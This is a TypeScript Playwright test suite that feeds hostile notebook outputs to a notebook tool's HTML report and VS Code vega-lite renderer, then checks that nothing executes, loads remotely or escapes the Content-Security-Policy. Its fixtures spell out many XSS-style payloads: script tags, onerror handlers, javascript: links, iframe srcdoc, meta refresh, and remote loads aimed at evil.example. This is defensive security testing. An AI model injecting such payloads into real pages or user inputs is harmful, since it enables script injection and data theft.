/**
 * A hostile notebook through the HTML report and VS Code's vega-lite renderer, in Chromium: every
 * control in the page is clicked, and nothing from the notebook may run (its payloads set
 * `window.__pwned` or the title), no request may leave the page (every request but the file
 * itself is recorded and refused), and no code may be compiled (`Function` is watched).
 * CSP violations may be reported (they mean the policy blocked something) but what they would
 * have done must not happen. One test per class of defect. Needs the Debian package `chromium`.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { notebookToHtml } from '../../cli/htmlReport';
import { readKatexCss } from '../../cli/notebookConvert';
import { Mime } from '../../kernel/protocol/mime';
import { createTsnbNotebook, type JsonValue, type TsnbCell, type TsnbMimeBundle } from '../../kernel/protocol/tsnb';
import { ROOT, launchChromium, openRendererPage, render, requireBundle } from './browser';

let browser: BrowserContext;
let close: () => Promise<void>;
/** Every request that was not the report file itself (refused). */
let requests: string[] = [];
/** Pages opened besides the one under test (popups). */
let popups: string[] = [];
const dir = mkdtempSync(path.join(tmpdir(), 'tl-hostile-'));
const EVIL = 'http://evil.example';

/** Runs in every frame before its scripts: records CSP violations and code compiled by Function. */
const WATCH = `
window.__name = (f) => f;
window.__violations = [];
window.__compiled = [];
document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
(() => {
  const F = Function;
  const record = (args) => { try { window.top.__compiled.push(String(args[args.length - 1]).slice(0, 80)); } catch { window.__compiled.push('?'); } };
  const P = new Proxy(F, { apply(t, self, args) { record(args); return Reflect.apply(t, self, args); }, construct(t, args) { record(args); return Reflect.construct(t, args); } });
  window.Function = P;
})();
`;

before(async () => {
  requireBundle('report');
  requireBundle('vegalite');
  ({ browser, close } = await launchChromium());
  await browser.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(`file://${dir}`) || url.startsWith('data:') || url.startsWith('blob:') || url.startsWith('about:')) return route.continue();
    if (url.startsWith('https://renderers.transferlab.test/')) return route.fallback();
    requests.push(url);
    return route.abort();
  });
  browser.on('page', (p) => popups.push(p.url()));
});

after(async () => {
  await close();
});

function code(...bundles: TsnbMimeBundle[]): TsnbCell {
  return {
    cell_type: 'code',
    metadata: {},
    source: 'display(x);',
    execution_count: 1,
    outputs: bundles.map((data) => ({ output_type: 'display_data', metadata: {}, data })),
  };
}

const VALUES = { values: [{ a: 'x', b: 1 }, { a: 'y', b: 2 }] };
const BAR = { mark: 'bar', encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } } };
const PAYLOAD = "window.top.__pwned = 'script'; window.top.document.title = 'pwned'";

/** A spec whose usermeta asks for the actions menu, a source header with script and code generation. */
const OVERRIDING_SPEC = {
  ...BAR,
  data: VALUES,
  usermeta: {
    note: 'kept',
    embedOptions: {
      actions: { export: true, source: true, compiled: true, editor: true },
      forceActionsMenu: true,
      defaultStyle: true,
      sourceHeader: `<script>window.opener.__pwned = 'sourceHeader'; window.opener.document.title = 'pwned'</script>`,
      sourceFooter: `<img src=x onerror="window.opener.__pwned = 'sourceFooter'">`,
      editorUrl: `${EVIL}/editor`,
      ast: false,
      expr: null,
      i18n: { SOURCE_ACTION: 'View Source' },
    },
  },
};

/** Specs that ask for something by URL, in every way vega offers. */
const URL_SPECS: JsonValue[] = [
  { ...BAR, data: { url: `${EVIL}/data.json` } },
  { data: { values: [{ u: `${EVIL}/mark.png` }] }, mark: { type: 'image', width: 20, height: 20 }, encoding: { url: { field: 'u', type: 'nominal' } } },
  { ...BAR, data: { url: 'local.csv', format: { type: 'csv' } } },
];

/** Embed options that would load a config and a patch by URL, through a loader of their own: ignored. */
const LOADER_SPEC = { ...BAR, data: VALUES, usermeta: { embedOptions: { loader: { baseURL: `${EVIL}/` }, config: `${EVIL}/config.json`, patch: `${EVIL}/patch.json` } } };

async function openReport(name: string, cells: TsnbCell[], options: { mathCss?: string } = {}): Promise<Page> {
  const nb = createTsnbNotebook();
  nb.cells.push({ cell_type: 'markdown', metadata: {}, source: `# Hostile ${name}` }, ...cells);
  const file = path.join(dir, `${name}.html`);
  writeFileSync(file, notebookToHtml(nb, { script: readFileSync(path.join(ROOT, 'dist', 'renderers', 'report.js'), 'utf8'), ...options }));
  requests = [];
  popups = [];
  const page = await browser.newPage();
  popups = [];
  await page.addInitScript(WATCH);
  await page.goto(pathToFileURL(file).href);
  await page.waitForSelector('body[data-tl-report="done"]', { timeout: 30_000 });
  return page;
}

/** Clicks every control of every frame (links out of the report excepted: the reader follows those). */
async function clickEverything(page: Page): Promise<number> {
  let clicked = 0;
  const visit = async (frame: Frame): Promise<void> => {
    for (const el of await frame.$$('button, a, summary, [role=button], details, input, area, label')) {
      const outLink = frame === page.mainFrame() && (await el.evaluate((e) => e instanceof HTMLAnchorElement && !(e.getAttribute('href') ?? '#').startsWith('#')));
      if (outLink) continue;
      clicked++;
      await el.click({ timeout: 1000, noWaitAfter: true }).catch(() => el.evaluate((e) => (e as HTMLElement).click()).catch(() => undefined));
    }
  };
  for (const frame of page.frames()) await visit(frame);
  await page.waitForTimeout(500);
  return clicked;
}

interface PageState {
  pwned: unknown;
  title: string;
  compiled: string[];
  violations: string[];
  errors: string[];
  drawn: number;
  actions: number;
}

function state(page: Page): Promise<PageState> {
  return page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __compiled: string[]; __violations: string[] };
    return {
      pwned: w.__pwned ?? null,
      title: document.title,
      compiled: w.__compiled,
      violations: w.__violations,
      errors: Array.from(document.querySelectorAll('.tl-error')).map((e) => e.textContent ?? ''),
      drawn: document.querySelectorAll('.tl-chart.tl-drawn').length,
      actions: document.querySelectorAll('.vega-actions, .vega-embed details, .has-actions').length,
    };
  });
}

function assertNothingHappened(s: PageState, title: string): void {
  assert.equal(s.pwned, null, 'a payload from the notebook ran');
  assert.equal(s.title, title);
  assert.deepEqual(s.compiled, [], 'code was compiled with Function');
  assert.deepEqual(requests, [], 'a request left the page');
  assert.deepEqual(popups, [], 'a window was opened');
}

test("a chart's usermeta.embedOptions cannot add the actions menu, run its source header or turn on code generation", async () => {
  const page = await openReport('embed-options', [code({ [Mime.vegaLite]: OVERRIDING_SPEC, [Mime.plain]: 'chart' })]);
  assert.ok((await clickEverything(page)) >= 0);
  const s = await state(page);
  assertNothingHappened(s, 'Hostile embed-options');
  assert.equal(s.actions, 0, 'the actions menu is shown');
  assert.equal(s.drawn, 1, `the chart is not drawn: ${s.errors.join('; ')}`);
  assert.deepEqual(s.violations, []);
  await page.close();
});

test('a chart that asks for a URL fetches nothing and says so in place of the chart', async () => {
  const page = await openReport(
    'urls',
    [...URL_SPECS, LOADER_SPEC].map((spec) => code({ [Mime.vegaLite]: spec, [Mime.plain]: 'chart' })),
  );
  await clickEverything(page);
  const s = await state(page);
  assertNothingHappened(s, 'Hostile urls');
  assert.equal(s.drawn, 1, 'only the chart whose URLs are all in ignored embed options is drawn');
  assert.equal(s.errors.length, URL_SPECS.length, s.errors.join('\n'));
  for (const [i, want] of ['data.json', 'mark.png', 'local.csv'].entries()) {
    assert.match(s.errors[i]!, new RegExp(`asks for "[^"]*${want.replace('.', '\\.')}"`), s.errors[i]);
  }
  await page.close();
});

test('HTML outputs run no script, fetch nothing and navigate nowhere', async () => {
  const html = [
    `<b id="bold">bold</b><script>${PAYLOAD}</script>`,
    `<img src="${EVIL}/html.png" onerror="${PAYLOAD}">`,
    `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>window.top.__pwned = 'inner'</script><img src='${EVIL}/inner.png'>"></iframe>`,
    `<link rel="stylesheet" href="${EVIL}/style.css"><style>@import url("${EVIL}/import.css"); body { background: url("${EVIL}/bg.png") }</style>`,
    `<a href="javascript:window.top.__pwned = 'link'">js link</a> <a href="${EVIL}/page" id="out">out</a> <a href="${EVIL}/top" target="_top">top</a> <a href="${EVIL}/blank" target="_blank">blank</a>`,
    `<form action="${EVIL}/form" method="post"><input name="q" value="1"><button type="submit">send</button></form>`,
    `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><video src="${EVIL}/video.mp4" autoplay></video><audio src="${EVIL}/audio.mp3" autoplay></audio>`,
    `<svg><image href="${EVIL}/svg.png"/></svg><input type="image" src="${EVIL}/input.png"><picture><source srcset="${EVIL}/src.png"><img alt=""></picture>`,
    `<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">`,
    `<base href="${EVIL}/"><img src="relative.png">`,
  ];
  const page = await openReport('html', [code(...html.map((h) => ({ [Mime.html]: h, [Mime.plain]: 'html' })))]);
  await page.waitForTimeout(500);
  await clickEverything(page);
  const s = await state(page);
  assertNothingHappened(s, 'Hostile html');
  const frames = await page.$$eval('iframe.tl-html', (fs) => fs.map((f) => [f.getAttribute('sandbox'), (f as HTMLIFrameElement).contentDocument?.getElementById('bold')?.textContent ?? null]));
  assert.equal(frames.length, html.length);
  for (const [sandbox] of frames) assert.equal(sandbox, 'allow-same-origin', 'an HTML output may run scripts');
  assert.equal(frames[0]![1], 'bold', 'the first output is shown');
  await page.close();
});

test('markdown shows no raw HTML, runs no javascript: link and fetches no image', async () => {
  const md = [
    `<script>${PAYLOAD}</script><img src="${EVIL}/raw.png" onerror="${PAYLOAD}">`,
    `[click](javascript:window.__pwned='md') <javascript:window.__pwned='auto'> [data](data:text/html,<script>alert(1)</script>)`,
    `![pixel](${EVIL}/pixel.png) ![](https://evil.example/bare.png "t") ![local](plot.png)`,
  ].join('\n\n');
  const page = await openReport('markdown', [
    { cell_type: 'markdown', metadata: {}, source: md },
    code({ [Mime.markdown]: md, [Mime.plain]: 'md' }),
  ]);
  await clickEverything(page);
  const s = await state(page);
  assertNothingHappened(s, 'Hostile markdown');
  const images = await page.$$eval('img', (is) => is.map((i) => i.getAttribute('src')));
  assert.deepEqual(images, [], 'an image from the markdown is shown');
  const links = await page.$$eval('a[href]', (as) => as.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
  // The raw tag's URL shows as text, linked like any bare URL; the images become links to them.
  const once = [
    [`${EVIL}/raw.png`, 'noopener noreferrer'],
    [`${EVIL}/pixel.png`, 'noopener noreferrer'],
    ['https://evil.example/bare.png', 'noopener noreferrer'],
    ['plot.png', 'noopener noreferrer'],
  ];
  assert.deepEqual(links, [...once, ...once]);
  await page.close();
});

test("the report's own Content-Security-Policy refuses scripts, requests and frames that get past the rest", async () => {
  const page = await openReport('csp', [code({ [Mime.vegaLite]: { ...BAR, data: VALUES }, [Mime.plain]: 'chart' })]);
  const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.getAttribute('content') ?? '').catch(() => '');
  for (const directive of ["default-src 'none'", "connect-src 'none'", 'img-src data: blob:', "frame-src 'none'", "form-action 'none'", "base-uri 'none'", "object-src 'none'"]) {
    assert.ok(csp.includes(directive), `${directive} missing from ${JSON.stringify(csp)}`);
  }
  assert.match(csp, /script-src 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  const evil = EVIL;
  await page.evaluate(async (url) => {
    const tries: Promise<unknown>[] = [];
    tries.push(fetch(`${url}/fetch`).catch(() => undefined));
    const img = document.createElement('img');
    img.src = `${url}/img.png`;
    document.body.append(img);
    const script = document.createElement('script');
    script.textContent = "window.__pwned = 'inline'";
    document.body.append(script);
    const remote = document.createElement('script');
    remote.src = `${url}/script.js`;
    document.body.append(remote);
    const frame = document.createElement('iframe');
    frame.src = `${url}/frame`;
    document.body.append(frame);
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${url}/style.css`;
    document.head.append(link);
    try {
      new Worker(`${url}/worker.js`);
    } catch {
      /* refused */
    }
    navigator.sendBeacon?.(`${url}/beacon`, 'x');
    await Promise.all(tries);
    await new Promise((r) => setTimeout(r, 500));
  }, evil);
  const s = await state(page);
  assert.equal(s.pwned, null, 'an injected inline script ran');
  assert.deepEqual(requests, [], 'a request left the page');
  assert.equal(s.drawn, 1, 'the report script is allowed by its hash');
  assert.ok(s.violations.length > 0, 'the policy reported nothing');
  await page.close();
});

test("VS Code's vega-lite renderer ignores the spec's embed options and loads no URL", async () => {
  const rp = await openRendererPage(browser);
  const drawn = await render(rp.page, 'vegalite', Mime.vegaLite, OVERRIDING_SPEC, 'overriding');
  assert.equal(drawn.error, null);
  assert.ok(drawn.marks > 0);
  const actions = await rp.page.$$eval('#outputs .vega-actions, #outputs details, #outputs .has-actions', (es) => es.length);
  assert.equal(actions, 0, 'the actions menu is shown');
  for (const [i, spec] of URL_SPECS.entries()) {
    const r = await render(rp.page, 'vegalite', Mime.vegaLite, spec, `url-${i}`);
    assert.match(r.error ?? '', /asks for "/, `spec ${i}: ${JSON.stringify(r)}`);
  }
  const ignored = await render(rp.page, 'vegalite', Mime.vegaLite, LOADER_SPEC, 'loader');
  assert.equal(ignored.error, null);
  assert.deepEqual(rp.refused, []);
  assert.deepEqual(await rp.violations(), []);
  assert.deepEqual(requests, []);
  await rp.page.close();
});

test('math asking for links, HTML or images runs and fetches nothing; KaTeX draws the rest', async () => {
  const md = [
    `$\\href{javascript:window.__pwned='href'}{click}$ and $\\url{${EVIL}/u}$`,
    `$$\n\\includegraphics{${EVIL}/g.png} \\htmlId{x}{y} \\htmlData{onerror=${PAYLOAD}}{z} \\htmlStyle{background:url(${EVIL}/s.png)}{w}\n$$`,
    `$</span><img src="${EVIL}/m.png" onerror="${PAYLOAD}">$ and $x^2 + \\frac{1}{2}$`,
  ].join('\n\n');
  const mathCss = await readKatexCss();
  assert.ok(mathCss !== undefined, 'dist/katex.css is built');
  const page = await openReport('math', [{ cell_type: 'markdown', metadata: {}, source: md }, code({ [Mime.markdown]: md, [Mime.plain]: 'md' })], { mathCss });
  await clickEverything(page);
  assertNothingHappened(await state(page), 'Hostile math');
  assert.deepEqual(await page.$$eval('img, a[href]', (es) => es.map((e) => e.outerHTML)), [], 'no image or link from the math');
  assert.ok((await page.$$('.katex math')).length >= 6, 'the formulas are typeset');
  await page.close();
});
